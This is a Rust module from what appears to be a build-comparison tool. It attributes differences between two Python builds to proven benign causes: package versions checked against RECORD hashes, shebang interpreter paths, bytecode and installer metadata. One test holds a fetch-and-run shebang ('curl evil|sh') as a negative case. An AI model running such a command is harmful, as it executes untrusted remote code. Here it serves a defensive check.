//! Why two layers differ: the causes two honest builds differ by, each accepted only on proof,
//! so a real change is never filed under a harmless one.
//!
//! - package versions: another release of a distribution in the same site directory; a path is
//!   explained only when each side's bytes are what that side's `RECORD` lists for it;
//! - interpreter path: scripts whose `#!` line names another Python and whose remaining bytes are
//!   identical, and `RECORD` lines that only re-hash those scripts (each hash checked);
//! - bytecode: `__pycache__/*.pyc` of a source that is the same on both sides;
//! - installer metadata: `INSTALLER`, `direct_url.json`, `REQUESTED` of a distribution.

use std::collections::{BTreeMap, BTreeSet};

use base64::Engine as _;

use super::{Cause, Difference, Side};
use crate::artifacts::digest::{Entry, ZipFiles};

/// The most of a `RECORD` file read (a real one is a few hundred KB at most).
const MAX_RECORD_BYTES: u64 = 16 << 20;

/// Both sides: their entries by path and their zips, opened once.
struct Sides<'a> {
    a: BTreeMap<&'a str, &'a Entry>,
    b: BTreeMap<&'a str, &'a Entry>,
    zip_a: Option<ZipFiles>,
    zip_b: Option<ZipFiles>,
}

/// Sorts the differences into known causes and the rest.
pub fn explain(differences: &[Difference], a: &Side, b: &Side) -> (Vec<Cause>, Vec<Difference>) {
    fn by_path(side: &Side) -> BTreeMap<&str, &Entry> {
        side.entries.iter().map(|e| (e.name.as_str(), e)).collect()
    }
    let mut sides = Sides {
        a: by_path(a),
        b: by_path(b),
        zip_a: ZipFiles::open(&a.zip).ok(),
        zip_b: ZipFiles::open(&b.zip).ok(),
    };
    let mut causes = Vec::new();
    let mut explained = BTreeSet::new();
    let mut add = |cause: Cause, explained: &mut BTreeSet<String>| {
        if !cause.paths.is_empty() {
            explained.extend(cause.paths.iter().cloned());
            causes.push(cause);
        }
    };
    let rest = |explained: &BTreeSet<String>| -> Vec<&Difference> {
        differences
            .iter()
            .filter(|d| !explained.contains(&d.path))
            .collect()
    };
    add(package_versions(differences, &mut sides), &mut explained);
    add(
        interpreter_paths(&rest(&explained), &mut sides),
        &mut explained,
    );
    add(bytecode(&rest(&explained), &sides), &mut explained);
    add(installer_metadata(&rest(&explained)), &mut explained);
    let unexplained = rest(&explained).into_iter().cloned().collect();
    (causes, unexplained)
}

/// One distribution at another version in the same site directory.
struct VersionChange {
    name: String,
    dist_a: String,
    dist_b: String,
    version_a: String,
    version_b: String,
    record_a: BTreeMap<String, [u8; 32]>,
    record_b: BTreeMap<String, [u8; 32]>,
}

fn package_versions(differences: &[Difference], sides: &mut Sides) -> Cause {
    let (dists_a, dists_b) = (distributions(&sides.a), distributions(&sides.b));
    let mut changes = Vec::new();
    for (key, dist_a) in &dists_a {
        let Some(dist_b) = dists_b.get(key) else {
            continue;
        };
        if dist_a == dist_b {
            continue;
        }
        let record_a = record(sides.zip_a.as_mut(), dist_a, &sides.a);
        let record_b = record(sides.zip_b.as_mut(), dist_b, &sides.b);
        changes.push(VersionChange {
            name: key.1.clone(),
            version_a: version_of(dist_a),
            version_b: version_of(dist_b),
            dist_a: dist_a.clone(),
            dist_b: dist_b.clone(),
            record_a,
            record_b,
        });
    }
    let paths = differences
        .iter()
        .filter(|d| changes.iter().any(|c| c.explains(&d.path, sides)))
        .map(|d| d.path.clone())
        .collect();
    let list = changes
        .iter()
        .map(|c| format!("{} {} → {}", c.name, c.version_a, c.version_b))
        .collect::<Vec<_>>()
        .join(", ");
    Cause {
        cause: "package versions",
        explanation: format!("other releases were installed ({list}), each file as its release's RECORD lists it: the index changed between the builds, or the locks differ; pin with a lock and --exclude-newer"),
        paths,
    }
}

impl VersionChange {
    /// A path of the two releases: in either's `.dist-info`, or with each side's bytes exactly
    /// what that side's `RECORD` lists.
    fn explains(&self, path: &str, sides: &Sides) -> bool {
        let inside = |dist: &str| path.starts_with(&format!("{dist}/"));
        if inside(&self.dist_a) || inside(&self.dist_b) {
            return true;
        }
        let listed = |record: &BTreeMap<String, [u8; 32]>, entry: Option<&&Entry>| match entry {
            Some(entry) => record.get(path) == Some(&entry.sha256),
            None => true,
        };
        let (in_a, in_b) = (sides.a.get(path), sides.b.get(path));
        (self.record_a.contains_key(path) || self.record_b.contains_key(path))
            && listed(&self.record_a, in_a)
            && listed(&self.record_b, in_b)
    }
}

/// `(site directory, normalised name)` → its `.dist-info` directory, for every distribution.
/// Two of one name in one directory are left out (no version to compare).
fn distributions(entries: &BTreeMap<&str, &Entry>) -> BTreeMap<(String, String), String> {
    let mut found: BTreeMap<(String, String), Vec<String>> = BTreeMap::new();
    for path in entries.keys() {
        let Some(dist) = path
            .strip_suffix("/METADATA")
            .filter(|d| d.ends_with(".dist-info"))
        else {
            continue;
        };
        let (root, dir) = dist.rsplit_once('/').unwrap_or(("", dist));
        let Some((name, _)) = dir.trim_end_matches(".dist-info").rsplit_once('-') else {
            continue;
        };
        found
            .entry((root.to_string(), normalise(name)))
            .or_default()
            .push(dist.to_string());
    }
    found
        .into_iter()
        .filter(|(_, dists)| dists.len() == 1)
        .map(|(key, mut dists)| (key, dists.remove(0)))
        .collect()
}

fn version_of(dist: &str) -> String {
    let dir = dist.rsplit('/').next().unwrap_or(dist);
    let dir = dir.trim_end_matches(".dist-info");
    dir.rsplit_once('-').map_or(dir, |(_, v)| v).to_string()
}

fn normalise(name: &str) -> String {
    name.to_ascii_lowercase().replace(['-', '.'], "_")
}

/// A distribution's `RECORD`: each listed path (in the layer) → its SHA-256. Empty when it is
/// missing, too long or unreadable: then nothing of it is explained.
fn record(
    zip: Option<&mut ZipFiles>,
    dist: &str,
    entries: &BTreeMap<&str, &Entry>,
) -> BTreeMap<String, [u8; 32]> {
    let Some(bytes) = zip.and_then(|z| z.read(&format!("{dist}/RECORD"), MAX_RECORD_BYTES)) else {
        return BTreeMap::new();
    };
    let root = dist.rsplit_once('/').map_or("", |(root, _)| root);
    String::from_utf8_lossy(&bytes)
        .lines()
        .filter_map(|line| record_line(line, root, entries))
        .collect()
}

/// One `RECORD` line: `path,sha256=<urlsafe base64>,size`, the path resolved in the layer.
fn record_line(
    line: &str,
    root: &str,
    entries: &BTreeMap<&str, &Entry>,
) -> Option<(String, [u8; 32])> {
    let mut fields = line.rsplitn(3, ',');
    let (_size, hash, listed) = (fields.next()?, fields.next()?, fields.next()?);
    let encoded = hash.strip_prefix("sha256=")?;
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(encoded.trim_end_matches('='))
        .ok()?;
    Some((resolve(root, listed, entries), bytes.try_into().ok()?))
}

/// A `RECORD` path (relative to the site directory) as a path in the layer. `pip install
/// --target` records scripts as `../../bin/x` and moves them to `<target>/bin/x`: when the
/// joined path is not in the layer, the one path that ends with what follows the `..`s is.
fn resolve(root: &str, listed: &str, entries: &BTreeMap<&str, &Entry>) -> String {
    let joined = join_relative(root, listed);
    if entries.contains_key(joined.as_str()) || !listed.starts_with("../") {
        return joined;
    }
    let tail = format!("/{}", listed.trim_start_matches("../"));
    let mut matching = entries.keys().filter(|p| p.ends_with(&tail));
    match (matching.next(), matching.next()) {
        (Some(only), None) => only.to_string(),
        _ => joined,
    }
}

/// `root/relative` with `..` resolved.
pub(super) fn join_relative(root: &str, relative: &str) -> String {
    let mut parts: Vec<&str> = root.split('/').filter(|p| !p.is_empty()).collect();
    for part in relative.split('/') {
        match part {
            ".." => {
                parts.pop();
            }
            "" | "." => {}
            part => parts.push(part),
        }
    }
    parts.join("/")
}

fn interpreter_paths(rest: &[&Difference], sides: &mut Sides) -> Cause {
    let scripts: Vec<String> = rest
        .iter()
        .filter(|d| d.how == "content" && only_the_interpreter_differs(&d.path, sides))
        .map(|d| d.path.clone())
        .collect();
    let mut paths = scripts.clone();
    if !scripts.is_empty() {
        for d in rest {
            if d.how == "content"
                && d.path.ends_with(".dist-info/RECORD")
                && record_only_rehashes(&d.path, &scripts, sides)
            {
                paths.push(d.path.clone());
            }
        }
    }
    Cause {
        cause: "interpreter path",
        explanation: "scripts name another Python in their `#!` line, all else identical (and RECORD re-hashes them): another build image or Python location, not another build".into(),
        paths,
    }
}

/// Both versions are scripts for a Python interpreter, with different `#!` lines and the same
/// bytes after them.
fn only_the_interpreter_differs(path: &str, sides: &Sides) -> bool {
    let script = |side: &BTreeMap<&str, &Entry>| side.get(path).and_then(|e| e.script.clone());
    let (Some(x), Some(y)) = (script(&sides.a), script(&sides.b)) else {
        return false;
    };
    x.interpreter_line != y.interpreter_line
        && x.rest_sha256 == y.rest_sha256
        && names_python(&x.interpreter_line)
        && names_python(&y.interpreter_line)
}

/// `#!/path/python3.9`, `#!/path/python3`, `#!/usr/bin/env python3`: a Python and nothing else.
fn names_python(line: &str) -> bool {
    let words: Vec<&str> = line.trim_start_matches("#!").split_whitespace().collect();
    let program = match words.as_slice() {
        [env, program] if env.ends_with("/env") => *program,
        [path] => path.rsplit('/').next().unwrap_or_default(),
        _ => return false,
    };
    let version = program.strip_prefix("python").unwrap_or("x");
    version.is_empty()
        || version.strip_prefix('3').is_some_and(|v| {
            v.is_empty()
                || v.strip_prefix('.')
                    .is_some_and(|m| !m.is_empty() && m.bytes().all(|b| b.is_ascii_digit()))
        })
}

/// Every line that differs between the two `RECORD`s names one of `scripts`, with the hash of
/// that side's script.
fn record_only_rehashes(record: &str, scripts: &[String], sides: &mut Sides) -> bool {
    let dist = record.trim_end_matches("/RECORD");
    let read = |zip: Option<&mut ZipFiles>| zip.and_then(|z| z.read(record, MAX_RECORD_BYTES));
    let (Some(x), Some(y)) = (read(sides.zip_a.as_mut()), read(sides.zip_b.as_mut())) else {
        return false;
    };
    let lines = |bytes: &[u8]| -> BTreeSet<String> {
        String::from_utf8_lossy(bytes)
            .lines()
            .map(str::to_string)
            .collect()
    };
    let (x, y) = (lines(&x), lines(&y));
    let root = dist.rsplit_once('/').map_or("", |(root, _)| root);
    let rehashes = |line: &String, side: &BTreeMap<&str, &Entry>| {
        let Some((path, hash)) = record_line(line, root, side) else {
            return false;
        };
        scripts.contains(&path) && side.get(path.as_str()).is_some_and(|e| e.sha256 == hash)
    };
    x.difference(&y).all(|line| rehashes(line, &sides.a))
        && y.difference(&x).all(|line| rehashes(line, &sides.b))
}

fn bytecode(rest: &[&Difference], sides: &Sides) -> Cause {
    let paths = rest
        .iter()
        .filter(|d| {
            let Some(source) = source_of_bytecode(&d.path) else {
                return false;
            };
            let (x, y) = (sides.a.get(source.as_str()), sides.b.get(source.as_str()));
            x.zip(y).is_some_and(|(x, y)| x.sha256 == y.sha256)
        })
        .map(|d| d.path.clone())
        .collect();
    Cause {
        cause: "bytecode",
        explanation: "bytecode compiled at build time (it embeds timestamps and paths) of a source that is the same in both; install with --no-compile".into(),
        paths,
    }
}

/// `pkg/__pycache__/mod.cpython-39.pyc` → `pkg/mod.py`.
fn source_of_bytecode(path: &str) -> Option<String> {
    let (dir, file) = path.rsplit_once("/__pycache__/")?;
    let module = file.strip_suffix(".pyc")?.split('.').next()?;
    Some(format!("{dir}/{module}.py"))
}

fn installer_metadata(rest: &[&Difference]) -> Cause {
    let paths = rest
        .iter()
        .filter(|d| {
            ["INSTALLER", "direct_url.json", "REQUESTED"]
                .iter()
                .any(|file| d.path.ends_with(&format!(".dist-info/{file}")))
        })
        .map(|d| d.path.clone())
        .collect();
    Cause {
        cause: "installer metadata",
        explanation:
            "another installer (pip, uv) or source URL recorded in a distribution's metadata".into(),
        paths,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn record_paths_resolve_against_the_site_directory() {
        assert_eq!(
            join_relative("python", "../python/bin/f2py"),
            "python/bin/f2py"
        );
        assert_eq!(join_relative("python", "bin/f2py"), "python/bin/f2py");
    }

    #[test]
    fn only_a_bare_python_is_an_interpreter_path() {
        for line in [
            "#!/var/lang/bin/python3.9",
            "#!/usr/bin/python3",
            "#!/usr/bin/env python3.13",
            "#!/opt/python",
        ] {
            assert!(names_python(line), "{line}");
        }
        for line in [
            "#!/bin/sh -c 'curl evil|sh' #",
            "#!/bin/sh",
            "#!/usr/bin/python3.9 -c x",
            "#!/usr/bin/pythonx",
            "#!/usr/bin/env bash",
        ] {
            assert!(!names_python(line), "{line}");
        }
    }

    #[test]
    fn bytecode_belongs_to_its_source() {
        assert_eq!(
            source_of_bytecode("python/pkg/__pycache__/mod.cpython-39.pyc").as_deref(),
            Some("python/pkg/mod.py")
        );
        assert_eq!(source_of_bytecode("python/evil.pyc"), None);
    }
}
